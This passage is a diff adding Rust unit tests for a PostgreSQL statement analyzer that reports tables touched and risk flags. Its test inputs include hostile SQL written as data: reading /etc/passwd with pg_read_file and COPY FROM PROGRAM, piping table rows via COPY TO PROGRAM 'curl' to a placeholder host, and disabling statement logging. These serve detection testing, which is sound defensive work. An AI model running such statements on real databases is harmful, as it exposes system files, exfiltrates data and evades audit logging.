@@ -1,0 +1,1229 @@
+//! Table-driven tests of [`analyze`] and [`AnalysisCache`].
+
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use std::sync::Arc;
+use std::time::Instant;
+
+use super::analyze::probe;
+use super::*;
+
+use StatementKind as K;
+
+/// One statement and what its summary must say. Tables are written
+/// `schema.name` or `name`; flags by their field names.
+struct Case {
+    sql: &'static str,
+    kind: StatementKind,
+    command: &'static str,
+    read: &'static [&'static str],
+    written: &'static [&'static str],
+    functions: &'static [&'static str],
+    flags: &'static [&'static str],
+}
+
+const fn case(sql: &'static str, kind: StatementKind, command: &'static str) -> Case {
+    Case {
+        sql,
+        kind,
+        command,
+        read: &[],
+        written: &[],
+        functions: &[],
+        flags: &[],
+    }
+}
+
+impl Case {
+    const fn read(mut self, read: &'static [&'static str]) -> Self {
+        self.read = read;
+        self
+    }
+    const fn written(mut self, written: &'static [&'static str]) -> Self {
+        self.written = written;
+        self
+    }
+    const fn functions(mut self, functions: &'static [&'static str]) -> Self {
+        self.functions = functions;
+        self
+    }
+    const fn flags(mut self, flags: &'static [&'static str]) -> Self {
+        self.flags = flags;
+        self
+    }
+}
+
+fn show(table: &TableRef) -> String {
+    match &table.schema {
+        Some(schema) => format!("{schema}.{}", table.name),
+        None => table.name.clone(),
+    }
+}
+
+fn flag_names(flags: &StatementFlags) -> Vec<&'static str> {
+    let mut names = Vec::new();
+    for (on, name) in [
+        (flags.no_where, "no_where"),
+        (flags.copy_program, "copy_program"),
+        (flags.copy_server_file, "copy_server_file"),
+        (flags.server_file_access, "server_file_access"),
+        (flags.config_change, "config_change"),
+    ] {
+        if on {
+            names.push(name);
+        }
+    }
+    names
+}
+
+fn statements(sql: &str) -> Vec<StatementSummary> {
+    match analyze(sql) {
+        Analysis::Parsed { statements } => statements,
+        Analysis::Unparsable { error } => panic!("{sql:?} did not parse: {error}"),
+    }
+}
+
+fn one(sql: &str) -> StatementSummary {
+    let mut all = statements(sql);
+    assert_eq!(all.len(), 1, "{sql:?} gave {all:#?}");
+    all.remove(0)
+}
+
+fn check(cases: &[Case]) {
+    let mut failures = Vec::new();
+    for case in cases {
+        let s = one(case.sql);
+        let sorted = |tables: &[TableRef]| {
+            let mut names: Vec<String> = tables.iter().map(show).collect();
+            names.sort();
+            names
+        };
+        let got = (
+            s.kind,
+            s.command.as_str(),
+            sorted(&s.tables_read),
+            sorted(&s.tables_written),
+            s.functions.clone(),
+            flag_names(&s.flags),
+        );
+        let mut read: Vec<String> = case.read.iter().map(|t| t.to_string()).collect();
+        let mut written: Vec<String> = case.written.iter().map(|t| t.to_string()).collect();
+        read.sort();
+        written.sort();
+        let mut functions: Vec<String> = case.functions.iter().map(|f| f.to_string()).collect();
+        functions.sort();
+        let want = (
+            case.kind,
+            case.command,
+            read,
+            written,
+            functions,
+            case.flags.to_vec(),
+        );
+        if got != want {
+            failures.push(format!("{:?}\n   got {got:?}\n  want {want:?}", case.sql));
+        }
+        assert!(
+            !s.fingerprint.is_empty(),
+            "{:?} has no fingerprint",
+            case.sql
+        );
+        assert_eq!(
+            s.transaction.is_some(),
+            s.kind == K::Transaction,
+            "{:?}",
+            case.sql
+        );
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn select() {
+    check(&[
+        case("select 1", K::Select, "SELECT"),
+        case("SELECT * FROM users", K::Select, "SELECT").read(&["users"]),
+        // Unquoted names fold to lower case; quoted ones keep theirs.
+        case("select * from USERS", K::Select, "SELECT").read(&["users"]),
+        case(
+            r#"SELECT * FROM "Users" u JOIN public.users p ON u.id = p.id
+               LEFT JOIN "Sales"."Orders" o ON o.uid = u.id"#,
+            K::Select,
+            "SELECT",
+        )
+        .read(&["Users", "public.users", "Sales.Orders"]),
+        case(
+            "SELECT * FROM a WHERE id IN (SELECT a_id FROM b) AND EXISTS (SELECT 1 FROM c)",
+            K::Select,
+            "SELECT",
+        )
+        .read(&["a", "b", "c"]),
+        case(
+            "SELECT * FROM (SELECT * FROM inner_t) s",
+            K::Select,
+            "SELECT",
+        )
+        .read(&["inner_t"]),
+        case(
+            "SELECT id FROM a UNION SELECT id FROM s.b",
+            K::Select,
+            "SELECT",
+        )
+        .read(&["a", "s.b"]),
+        // CTE names are not tables ...
+        case(
+            "WITH recent AS (SELECT * FROM orders WHERE ts > now())
+             SELECT * FROM recent JOIN customers c ON c.id = recent.cid",
+            K::Select,
+            "SELECT",
+        )
+        .read(&["customers", "orders"])
+        .functions(&["now"]),
+        // ... except inside their own (non-recursive) definition.
+        case(
+            "WITH users AS (SELECT * FROM users WHERE active) SELECT * FROM users",
+            K::Select,
+            "SELECT",
+        )
+        .read(&["users"]),
+        case("VALUES (1), (2)", K::Select, "SELECT"),
+        case("TABLE t", K::Select, "SELECT").read(&["t"]),
+        case(
+            "SELECT * FROM jobs FOR UPDATE SKIP LOCKED",
+            K::Select,
+            "SELECT",
+        )
+        .read(&["jobs"]),
+        case("SELECT * INTO archive FROM t", K::Create, "SELECT INTO")
+            .read(&["t"])
+            .written(&["archive"]),
+        case("SELECT Upper(name), count(*) FROM t", K::Select, "SELECT")
+            .read(&["t"])
+            .functions(&["count", "upper"]),
+        case(r#"select "MySchema"."DoIt"()"#, K::Select, "SELECT").functions(&["myschema.doit"]),
+    ]);
+}
+
+#[test]
+fn select_with_data_modifying_cte() {
+    check(&[case(
+        "WITH gone AS (DELETE FROM queue RETURNING *) SELECT * FROM gone",
+        K::Select,
+        "SELECT",
+    )
+    .written(&["queue"])
+    .flags(&["no_where"])]);
+}
+
+#[test]
+fn server_files_and_configuration() {
+    check(&[
+        case("select pg_read_file('/etc/passwd')", K::Select, "SELECT")
+            .functions(&["pg_read_file"])
+            .flags(&["server_file_access"]),
+        case(
+            "SELECT pg_catalog.pg_read_binary_file('x')",
+            K::Select,
+            "SELECT",
+        )
+        .functions(&["pg_catalog.pg_read_binary_file"])
+        .flags(&["server_file_access"]),
+        case("SELECT * FROM pg_ls_dir('/tmp') AS f", K::Select, "SELECT")
+            .functions(&["pg_ls_dir"])
+            .flags(&["server_file_access"]),
+        case("SELECT pg_stat_file('base')", K::Select, "SELECT")
+            .functions(&["pg_stat_file"])
+            .flags(&["server_file_access"]),
+        case("SELECT lo_import('/etc/hosts')", K::Select, "SELECT")
+            .functions(&["lo_import"])
+            .flags(&["server_file_access"]),
+        case("SELECT lo_export(16402, '/tmp/x')", K::Select, "SELECT")
+            .functions(&["lo_export"])
+            .flags(&["server_file_access"]),
+        case("LOAD 'auto_explain'", K::Other, "LOAD").flags(&["server_file_access"]),
+        case(
+            "select set_config('log_statement', 'none', false)",
+            K::Select,
+            "SELECT",
+        )
+        .functions(&["set_config"])
+        .flags(&["config_change"]),
+        case("SELECT pg_reload_conf()", K::Select, "SELECT")
+            .functions(&["pg_reload_conf"])
+            .flags(&["config_change"]),
+        case(
+            "ALTER SYSTEM SET work_mem = '64MB'",
+            K::Alter,
+            "ALTER SYSTEM",
+        )
+        .flags(&["config_change"]),
+        case("ALTER SYSTEM RESET ALL", K::Alter, "ALTER SYSTEM").flags(&["config_change"]),
+        case("ALTER ROLE bob SET search_path = x", K::Alter, "ALTER ROLE")
+            .flags(&["config_change"]),
+        case(
+            "ALTER DATABASE app SET work_mem = '1GB'",
+            K::Alter,
+            "ALTER DATABASE",
+        )
+        .flags(&["config_change"]),
+    ]);
+}
+
+#[test]
+fn insert() {
+    check(&[
+        case("INSERT INTO t (a) VALUES (1)", K::Insert, "INSERT").written(&["t"]),
+        case(
+            "INSERT INTO audit.log SELECT * FROM events e JOIN users u ON u.id = e.uid",
+            K::Insert,
+            "INSERT",
+        )
+        .read(&["events", "users"])
+        .written(&["audit.log"]),
+        case(
+            "WITH src AS (SELECT * FROM staging) INSERT INTO t SELECT * FROM src",
+            K::Insert,
+            "INSERT",
+        )
+        .read(&["staging"])
+        .written(&["t"]),
+        case(
+            "INSERT INTO t VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET a = excluded.a",
+            K::Insert,
+            "INSERT",
+        )
+        .written(&["t"]),
+        case(
+            "WITH moved AS (DELETE FROM queue RETURNING *) INSERT INTO done SELECT * FROM moved",
+            K::Insert,
+            "INSERT",
+        )
+        .written(&["done", "queue"])
+        .flags(&["no_where"]),
+    ]);
+}
+
+#[test]
+fn update() {
+    check(&[
+        case("UPDATE accounts SET balance = 0", K::Update, "UPDATE")
+            .written(&["accounts"])
+            .flags(&["no_where"]),
+        case("UPDATE accounts SET balance = 0 WHERE id = 1", K::Update, "UPDATE")
+            .written(&["accounts"]),
+        case("UPDATE t SET a = u.a FROM u WHERE t.id = u.id", K::Update, "UPDATE")
+            .read(&["u"])
+            .written(&["t"]),
+        // A WHERE inside a subquery is not the statement's.
+        case(
+            "UPDATE t SET a = (SELECT max(x) FROM s WHERE s.id = 1)",
+            K::Update,
+            "UPDATE",
+        )
+        .read(&["s"])
+        .written(&["t"])
+        .functions(&["max"])
+        .flags(&["no_where"]),
+        case("UPDATE t SET a = 1 WHERE CURRENT OF c", K::Update, "UPDATE").written(&["t"]),
+        case(
+            "UPDATE t SET a = 1 RETURNING (SELECT count(*) FROM u WHERE u.id = t.id)",
+            K::Update,
+            "UPDATE",
+        )
+        .read(&["u"])
+        .written(&["t"])
+        .functions(&["count"])
+        .flags(&["no_where"]),
+        case(
+            "WITH x AS (SELECT id FROM s) UPDATE t SET a = 1 WHERE id IN (SELECT id FROM x)",
+            K::Update,
+            "UPDATE",
+        )
+        .read(&["s"])
+        .written(&["t"]),
+        case(
+            "WITH x AS (SELECT id FROM s) UPDATE t SET a = 1",
+            K::Update,
+            "UPDATE",
+        )
+        .read(&["s"])
+        .written(&["t"])
+        .flags(&["no_where"]),
+        // The outer UPDATE has a WHERE; the DELETE in its WITH does not.
+        case(
+            "WITH d AS (DELETE FROM a RETURNING id) UPDATE b SET x = 1 WHERE id IN (SELECT id FROM d)",
+            K::Update,
+            "UPDATE",
+        )
+        .written(&["a", "b"])
+        .flags(&["no_where"]),
+    ]);
+}
+
+#[test]
+fn delete() {
+    check(&[
+        case("DELETE FROM sessions", K::Delete, "DELETE")
+            .written(&["sessions"])
+            .flags(&["no_where"]),
+        case(
+            "DELETE FROM sessions WHERE expires < now()",
+            K::Delete,
+            "DELETE",
+        )
+        .written(&["sessions"])
+        .functions(&["now"]),
+        case(
+            "DELETE FROM t USING u WHERE t.id = u.id",
+            K::Delete,
+            "DELETE",
+        )
+        .read(&["u"])
+        .written(&["t"]),
+        case(r#"delete from public."Users""#, K::Delete, "DELETE")
+            .written(&["public.Users"])
+            .flags(&["no_where"]),
+        case("DELETE FROM t WHERE CURRENT OF c", K::Delete, "DELETE").written(&["t"]),
+        case("delete from t where true;", K::Delete, "DELETE").written(&["t"]),
+    ]);
+}
+
+/// The token shortcut and the tree agree on "has a WHERE".
+/// The summary does not look inside RETURNING lists; they are summarised
+/// apart.
+#[test]
+fn returning_lists() {
+    check(&[
+        case(
+            "INSERT INTO t (a) VALUES (1) RETURNING id",
+            K::Insert,
+            "INSERT",
+        )
+        .written(&["t"]),
+        case(
+            "DELETE FROM t WHERE id = 1 RETURNING pg_read_file('/etc/passwd')",
+            K::Delete,
+            "DELETE",
+        )
+        .written(&["t"])
+        .functions(&["pg_read_file"])
+        .flags(&["server_file_access"]),
+        case(
+            "INSERT INTO t VALUES (1) RETURNING (SELECT secret FROM secrets LIMIT 1);",
+            K::Insert,
+            "INSERT",
+        )
+        .read(&["secrets"])
+        .written(&["t"]),
+        case(
+            "UPDATE t SET a = 1 WHERE id = 2
+             RETURNING WITH (OLD AS o, NEW AS n) o.a, n.a, lower((SELECT s FROM s.x))",
+            K::Update,
+            "UPDATE",
+        )
+        .read(&["s.x"])
+        .written(&["t"])
+        .functions(&["lower"]),
+        case(
+            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE
+             RETURNING merge_action(), upper(t.name)",
+            K::Merge,
+            "MERGE",
+        )
+        .read(&["s"])
+        .written(&["t"])
+        .functions(&["upper"]),
+        // In a WITH query: the list ends at its closing parenthesis, and the
+        // statement's CTE names are still not tables.
+        case(
+            "WITH prev AS (SELECT * FROM hist), gone AS (
+                 DELETE FROM q WHERE id > 0 RETURNING id, (SELECT max(v) FROM prev)
+             ) SELECT * FROM gone JOIN other USING (id)",
+            K::Select,
+            "SELECT",
+        )
+        .read(&["hist", "other"])
+        .written(&["q"])
+        .functions(&["max"]),
+        case(
+            "EXPLAIN ANALYZE INSERT INTO t VALUES (1) RETURNING lo_export(1, '/tmp/x')",
+            K::Explain,
+            "EXPLAIN ANALYZE",
+        )
+        .written(&["t"])
+        .functions(&["lo_export"])
+        .flags(&["server_file_access"]),
+        case(
+            "PREPARE p AS INSERT INTO t VALUES ($1) RETURNING (SELECT 1 FROM u)",
+            K::Prepared,
+            "PREPARE",
+        )
+        .read(&["u"])
+        .written(&["t"]),
+    ]);
+}
+
+#[test]
+fn where_tokens_agree_with_tree() {
+    for sql in [
+        "UPDATE t SET a = 1",
+        "UPDATE t SET a = 1 WHERE b",
+        "UPDATE t SET a = (SELECT 1 FROM u WHERE x) ",
+        "UPDATE t SET a = CASE WHEN b THEN 1 END",
+        "UPDATE t SET a = array_agg(x) FILTER (WHERE y)",
+        "UPDATE t SET \"where\" = 1",
+        "UPDATE t SET a = 'where' || $$ where $$ -- where\n",
+        "UPDATE t SET a = 1 /* where */ RETURNING (select 1 where true)",
+        "UPDATE t SET a = u.b FROM u JOIN v ON v.id = u.id WHERE t.id = u.id",
+        "DELETE FROM t",
+        "DELETE FROM t USING u WHERE t.id = u.id",
+        "DELETE FROM t WHERE CURRENT OF c",
+        "DELETE FROM t WHERE (a) = (1)",
+        "DELETE FROM t RETURNING (SELECT 1 WHERE false)",
+    ] {
+        let tokens = probe::where_by_tokens(sql);
+        let tree = probe::no_where_by_tree(sql);
+        assert_eq!(tokens.map(|has| !has), Some(tree), "{sql}");
+    }
+    assert_eq!(
+        probe::where_by_tokens("WITH x AS (SELECT 1) DELETE FROM t"),
+        None
+    );
+}
+
+#[test]
+fn merge() {
+    check(&[
+        case(
+            "MERGE INTO target t USING source s ON t.id = s.id
+             WHEN MATCHED THEN UPDATE SET v = s.v
+             WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)",
+            K::Merge,
+            "MERGE",
+        )
+        .read(&["source"])
+        .written(&["target"]),
+        case(
+            "MERGE INTO app.t USING (SELECT * FROM a JOIN b ON a.id = b.id) s ON t.id = s.id
+             WHEN MATCHED THEN DELETE",
+            K::Merge,
+            "MERGE",
+        )
+        .read(&["a", "b"])
+        .written(&["app.t"]),
+        case(
+            "MERGE INTO t USING a JOIN s.b ON a.id = b.id ON t.id = a.id WHEN MATCHED THEN DELETE",
+            K::Merge,
+            "MERGE",
+        )
+        .read(&["a", "s.b"])
+        .written(&["t"]),
+        case(
+            "WITH s AS (SELECT * FROM src) MERGE INTO t USING s ON t.id = s.id
+             WHEN MATCHED THEN DELETE",
+            K::Merge,
+            "MERGE",
+        )
+        .read(&["src"])
+        .written(&["t"]),
+    ]);
+}
+
+#[test]
+fn copy() {
+    check(&[
+        case("COPY t FROM STDIN", K::Copy, "COPY").written(&["t"]),
+        case(
+            "COPY t (a, b) FROM '/tmp/data.csv' WITH (FORMAT csv)",
+            K::Copy,
+            "COPY",
+        )
+        .written(&["t"])
+        .flags(&["copy_server_file"]),
+        case("COPY t FROM PROGRAM 'cat /etc/passwd'", K::Copy, "COPY")
+            .written(&["t"])
+            .flags(&["copy_program"]),
+        case("COPY public.t TO STDOUT", K::Copy, "COPY").read(&["public.t"]),
+        case("COPY public.t TO '/tmp/out'", K::Copy, "COPY")
+            .read(&["public.t"])
+            .flags(&["copy_server_file"]),
+        case(
+            "COPY (SELECT * FROM a JOIN b ON a.id = b.id) TO PROGRAM 'curl -d @- http://x'",
+            K::Copy,
+            "COPY",
+        )
+        .read(&["a", "b"])
+        .flags(&["copy_program"]),
+        case(
+            "COPY (DELETE FROM t RETURNING *) TO STDOUT",
+            K::Copy,
+            "COPY",
+        )
+        .written(&["t"])
+        .flags(&["no_where"]),
+    ]);
+}
+
+#[test]
+fn create() {
+    check(&[
+        case("CREATE TABLE t (id int)", K::Create, "CREATE TABLE").written(&["t"]),
+        case(
+            "CREATE TABLE s.t2 AS SELECT * FROM t",
+            K::Create,
+            "CREATE TABLE AS",
+        )
+        .read(&["t"])
+        .written(&["s.t2"]),
+        case(
+            "CREATE MATERIALIZED VIEW mv AS SELECT * FROM t",
+            K::Create,
+            "CREATE MATERIALIZED VIEW",
+        )
+        .read(&["t"])
+        .written(&["mv"]),
+        case("CREATE INDEX i ON t (a)", K::Create, "CREATE INDEX").written(&["t"]),
+        case("CREATE VIEW v AS SELECT * FROM t", K::Create, "CREATE VIEW")
+            .read(&["t"])
+            .written(&["v"]),
+        case(
+            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
+            K::Create,
+            "CREATE FUNCTION",
+        ),
+        case(
+            "CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$",
+            K::Create,
+            "CREATE PROCEDURE",
+        ),
+        case("CREATE SCHEMA s", K::Create, "CREATE SCHEMA"),
+        case("CREATE ROLE bob LOGIN", K::Create, "CREATE ROLE"),
+        case("CREATE USER bob", K::Create, "CREATE ROLE"),
+        case("CREATE DATABASE d", K::Create, "CREATE DATABASE"),
+        case("CREATE EXTENSION pgcrypto", K::Create, "CREATE EXTENSION"),
+        case("CREATE SEQUENCE sq", K::Create, "CREATE SEQUENCE"),
+        case(
+            "CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int)",
+            K::Create,
+            "CREATE AGGREGATE",
+        ),
+        case("CREATE TYPE mood AS ENUM ('ok')", K::Create, "CREATE TYPE"),
+    ]);
+}
+
+#[test]
+fn alter() {
+    check(&[
+        case("ALTER TABLE t ADD COLUMN c int", K::Alter, "ALTER TABLE").written(&["t"]),
+        case("ALTER TABLE t OWNER TO bob", K::Alter, "ALTER TABLE").written(&["t"]),
+        case(
+            "ALTER TABLE t RENAME COLUMN a TO b",
+            K::Alter,
+            "ALTER TABLE",
+        )
+        .written(&["t"]),
+        case("ALTER TABLE s.t RENAME TO t2", K::Alter, "ALTER TABLE").written(&["s.t", "s.t2"]),
+        case("ALTER TABLE t SET SCHEMA archive", K::Alter, "ALTER TABLE").written(&["t"]),
+        case(
+            "ALTER VIEW v ALTER COLUMN c SET DEFAULT 1",
+            K::Alter,
+            "ALTER VIEW",
+        )
+        .written(&["v"]),
+        case("ALTER INDEX i RENAME TO j", K::Alter, "ALTER INDEX").written(&["i"]),
+        case(
+            "ALTER FUNCTION f() OWNER TO bob",
+            K::Alter,
+            "ALTER FUNCTION",
+        ),
+        case(
+            "ALTER FUNCTION f() SECURITY DEFINER",
+            K::Alter,
+            "ALTER FUNCTION",
+        ),
+        case("ALTER ROLE bob SUPERUSER", K::Alter, "ALTER ROLE"),
+        case("ALTER SCHEMA s RENAME TO s2", K::Alter, "ALTER SCHEMA"),
+    ]);
+}
+
+#[test]
+fn drop_and_truncate() {
+    check(&[
+        case("DROP TABLE a, s.b", K::Drop, "DROP TABLE").written(&["a", "s.b"]),
+        case(
+            r#"DROP TABLE IF EXISTS "Users" CASCADE"#,
+            K::Drop,
+            "DROP TABLE",
+        )
+        .written(&["Users"]),
+        case("DROP VIEW v, s.w", K::Drop, "DROP VIEW").written(&["v", "s.w"]),
+        case(
+            "DROP MATERIALIZED VIEW mv",
+            K::Drop,
+            "DROP MATERIALIZED VIEW",
+        )
+        .written(&["mv"]),
+        case("DROP SEQUENCE sq", K::Drop, "DROP SEQUENCE").written(&["sq"]),
+        case("DROP SCHEMA app CASCADE", K::Drop, "DROP SCHEMA"),
+        case("DROP INDEX i", K::Drop, "DROP INDEX"),
+        case("DROP FUNCTION f(int)", K::Drop, "DROP FUNCTION"),
+        case("DROP DATABASE prod", K::Drop, "DROP DATABASE"),
+        case("DROP ROLE bob", K::Drop, "DROP ROLE"),
+        case("DROP OWNED BY bob", K::Drop, "DROP OWNED"),
+        case("TRUNCATE a, s.b RESTART IDENTITY", K::Truncate, "TRUNCATE").written(&["a", "s.b"]),
+        case("TRUNCATE TABLE t", K::Truncate, "TRUNCATE").written(&["t"]),
+    ]);
+}
+
+#[test]
+fn grant_and_revoke() {
+    check(&[
+        case("GRANT SELECT ON t TO bob", K::Grant, "GRANT").written(&["t"]),
+        case("REVOKE ALL ON s.t FROM bob", K::Revoke, "REVOKE").written(&["s.t"]),
+        case("GRANT USAGE ON SCHEMA s TO bob", K::Grant, "GRANT"),
+        case("GRANT admin TO bob", K::Grant, "GRANT ROLE"),
+        case("REVOKE admin FROM bob", K::Revoke, "REVOKE ROLE"),
+        case(
+            "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
+            K::Alter,
+            "ALTER DEFAULT PRIVILEGES",
+        ),
+    ]);
+}
+
+#[test]
+fn transactions() {
+    use TransactionOp as T;
+    for (sql, op, command) in [
+        ("BEGIN", T::Begin, "BEGIN"),
+        ("begin isolation level serializable", T::Begin, "BEGIN"),
+        ("START TRANSACTION READ ONLY", T::Begin, "START TRANSACTION"),
+        ("COMMIT", T::Commit, "COMMIT"),
+        ("END", T::Commit, "COMMIT"),
+        ("COMMIT AND CHAIN", T::Commit, "COMMIT"),
+        ("ROLLBACK", T::Rollback, "ROLLBACK"),
+        ("ABORT", T::Rollback, "ROLLBACK"),
+        ("SAVEPOINT s1", T::Other, "SAVEPOINT"),
+        ("RELEASE SAVEPOINT s1", T::Other, "RELEASE"),
+        (
+            "ROLLBACK TO SAVEPOINT s1",
+            T::Other,
+            "ROLLBACK TO SAVEPOINT",
+        ),
+        ("PREPARE TRANSACTION 'x'", T::Other, "PREPARE TRANSACTION"),
+        ("COMMIT PREPARED 'x'", T::Other, "COMMIT PREPARED"),
+        ("ROLLBACK PREPARED 'x'", T::Other, "ROLLBACK PREPARED"),
+    ] {
+        let s = one(sql);
+        assert_eq!(
+            (s.kind, s.transaction, s.command.as_str()),
+            (K::Transaction, Some(op), command),
+            "{sql}"
+        );
+    }
+}
+
+#[test]
+fn set_show_call_do_prepared() {
+    check(&[
+        case("SET search_path TO app", K::Set, "SET"),
+        case("SET LOCAL statement_timeout = 0", K::Set, "SET"),
+        case(
+            "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
+            K::Set,
+            "SET",
+        ),
+        case("SET ROLE admin", K::Set, "SET ROLE"),
+        case(
+            "SET SESSION AUTHORIZATION bob",
+            K::Set,
+            "SET SESSION AUTHORIZATION",
+        ),
+        case("RESET work_mem", K::Set, "RESET"),
+        case("RESET ALL", K::Set, "RESET"),
+        case("SHOW work_mem", K::Set, "SHOW"),
+        case("SHOW ALL", K::Set, "SHOW"),
+        case("SET CONSTRAINTS ALL DEFERRED", K::Set, "SET CONSTRAINTS"),
+        case("CALL app.refresh(1)", K::Call, "CALL").functions(&["app.refresh"]),
+        case("call Refresh_All()", K::Call, "CALL").functions(&["refresh_all"]),
+        // A DO body is PL/pgSQL: opaque here, the kind is what a policy sees.
+        case("DO $$BEGIN DELETE FROM t; END$$", K::Do, "DO"),
+        case("DO LANGUAGE plpgsql 'BEGIN NULL; END'", K::Do, "DO"),
+        case(
+            "PREPARE q (int) AS SELECT * FROM t WHERE id = $1",
+            K::Prepared,
+            "PREPARE",
+        )
+        .read(&["t"]),
+        case("PREPARE d AS DELETE FROM t", K::Prepared, "PREPARE")
+            .written(&["t"])
+            .flags(&["no_where"]),
+        case("EXECUTE q(1)", K::Prepared, "EXECUTE"),
+        case("DEALLOCATE q", K::Prepared, "DEALLOCATE"),
+        case("DEALLOCATE ALL", K::Prepared, "DEALLOCATE"),
+    ]);
+}
+
+#[test]
+fn explain() {
+    check(&[
+        case("EXPLAIN SELECT * FROM t", K::Explain, "EXPLAIN").read(&["t"]),
+        // EXPLAIN ANALYZE runs the statement.
+        case(
+            "EXPLAIN ANALYZE DELETE FROM t",
+            K::Explain,
+            "EXPLAIN ANALYZE",
+        )
+        .written(&["t"])
+        .flags(&["no_where"]),
+        case(
+            "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1",
+            K::Explain,
+            "EXPLAIN ANALYZE",
+        )
+        .written(&["t"]),
+        case(
+            "EXPLAIN (ANALYZE false) DELETE FROM t",
+            K::Explain,
+            "EXPLAIN",
+        )
+        .written(&["t"])
+        .flags(&["no_where"]),
+        case(
+            "EXPLAIN (ANALYZE off, COSTS on) DELETE FROM t",
+            K::Explain,
+            "EXPLAIN",
+        )
+        .written(&["t"])
+        .flags(&["no_where"]),
+        case(
+            "EXPLAIN (ANALYZE on) DELETE FROM t",
+            K::Explain,
+            "EXPLAIN ANALYZE",
+        )
+        .written(&["t"])
+        .flags(&["no_where"]),
+        case(
+            "EXPLAIN ANALYZE MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
+            K::Explain,
+            "EXPLAIN ANALYZE",
+        )
+        .read(&["s"])
+        .written(&["t"]),
+        case(
+            "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')",
+            K::Explain,
+            "EXPLAIN ANALYZE",
+        )
+        .functions(&["pg_read_file"])
+        .flags(&["server_file_access"]),
+        case("EXPLAIN EXECUTE q(1)", K::Explain, "EXPLAIN"),
+    ]);
+}
+
+#[test]
+fn other_kinds() {
+    check(&[
+        case("VACUUM ANALYZE t", K::Other, "VACUUM").written(&["t"]),
+        case("VACUUM", K::Other, "VACUUM"),
+        case("ANALYZE t", K::Other, "ANALYZE").written(&["t"]),
+        case(
+            "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
+            K::Other,
+            "LOCK TABLE",
+        )
+        .written(&["t"]),
+        case(
+            "REFRESH MATERIALIZED VIEW mv",
+            K::Other,
+            "REFRESH MATERIALIZED VIEW",
+        )
+        .written(&["mv"]),
+        case("CLUSTER t USING i", K::Other, "CLUSTER"),
+        case("REINDEX TABLE t", K::Other, "REINDEX"),
+        case("CHECKPOINT", K::Other, "CHECKPOINT"),
+        case("LISTEN ch", K::Other, "LISTEN"),
+        case("NOTIFY ch, 'x'", K::Other, "NOTIFY"),
+        case("UNLISTEN *", K::Other, "UNLISTEN"),
+        case("DISCARD ALL", K::Other, "DISCARD"),
+        case("COMMENT ON TABLE t IS 'x'", K::Other, "COMMENT"),
+        case(
+            "DECLARE c CURSOR FOR SELECT * FROM t",
+            K::Other,
+            "DECLARE CURSOR",
+        )
+        .read(&["t"]),
+        case(
+            "DECLARE \"cursor\" BINARY NO SCROLL CURSOR WITH HOLD FOR SELECT pg_read_file(f) FROM s.t",
+            K::Other,
+            "DECLARE CURSOR",
+        )
+        .read(&["s.t"])
+        .functions(&["pg_read_file"])
+        .flags(&["server_file_access"]),
+        case("EXPLAIN DECLARE c CURSOR FOR SELECT * FROM t", K::Explain, "EXPLAIN").read(&["t"]),
+        case("FETCH 10 FROM c", K::Other, "FETCH"),
+        case("MOVE NEXT IN c", K::Other, "MOVE"),
+        case("CLOSE c", K::Other, "CLOSE CURSOR"),
+    ]);
+}
+
+#[test]
+fn multi_statement_text_gives_one_summary_each() {
+    let all = statements("select 1; drop table t");
+    let got: Vec<_> = all
+        .iter()
+        .map(|s| (s.kind, s.command.as_str(), s.text.as_str()))
+        .collect();
+    assert_eq!(
+        got,
+        [
+            (K::Select, "SELECT", "select 1"),
+            (K::Drop, "DROP TABLE", "drop table t"),
+        ]
+    );
+    assert_eq!(
+        all[1].tables_written.iter().map(show).collect::<Vec<_>>(),
+        ["t"]
+    );
+    assert!(all[0].tables_written.is_empty());
+    assert_ne!(all[0].fingerprint, all[1].fingerprint);
+
+    let all = statements("BEGIN;\nUPDATE a SET x = 1;\n/* done */ COMMIT;");
+    let got: Vec<_> = all
+        .iter()
+        .map(|s| (s.command.as_str(), s.text.as_str(), s.flags.no_where))
+        .collect();
+    assert_eq!(
+        got,
+        [
+            ("BEGIN", "BEGIN", false),
+            ("UPDATE", "UPDATE a SET x = 1", true),
+            ("COMMIT", "COMMIT", false),
+        ]
+    );
+
+    // Semicolons inside literals, identifiers, comments and bodies.
+    let all =
+        statements("select ';' as \"a;b\" /* ; */ -- ;\n; DO $$BEGIN PERFORM 1; END$$; select 2;");
+    let texts: Vec<_> = all.iter().map(|s| s.text.as_str()).collect();
+    assert_eq!(
+        texts,
+        [
+            "select ';' as \"a;b\" /* ; */ -- ;",
+            "DO $$BEGIN PERFORM 1; END$$",
+            "select 2"
+        ]
+    );
+}
+
+#[test]
+fn statement_text_drops_surrounding_noise() {
+    for (sql, text) in [
+        ("  /* lead */ SELECT 1 ;  ", "SELECT 1"),
+        ("-- note\nSELECT 1;;", "SELECT 1"),
+        ("/* a /* nested */ comment */ SELECT 1", "SELECT 1"),
+        ("SELECT 1 -- trailing", "SELECT 1 -- trailing"),
+        ("\n\tSELECT 'x;'\n", "SELECT 'x;'"),
+    ] {
+        assert_eq!(one(sql).text, text, "{sql:?}");
+    }
+}
+
+#[test]
+fn fingerprints_ignore_literals_but_not_relations() {
+    let fp = |sql: &str| one(sql).fingerprint;
+    let base = fp("select * from t where id = 1");
+    assert_eq!(base, fp("select * from t where id = 2"));
+    assert_eq!(base, fp("SELECT *\nFROM t WHERE id = 42;"));
+    assert_eq!(base.len(), 16, "{base}");
+    assert!(base.bytes().all(|b| b.is_ascii_hexdigit()), "{base}");
+    assert_ne!(base, fp("select * from u where id = 1"));
+    assert_ne!(
+        fp("delete from a.t where id = 1"),
+        fp("delete from b.t where id = 1")
+    );
+    assert_ne!(fp("select * from t1 x"), fp("select * from t2 x"));
+    assert_ne!(
+        fp("select * from orders_2024_01"),
+        fp("select * from orders_2024_02")
+    );
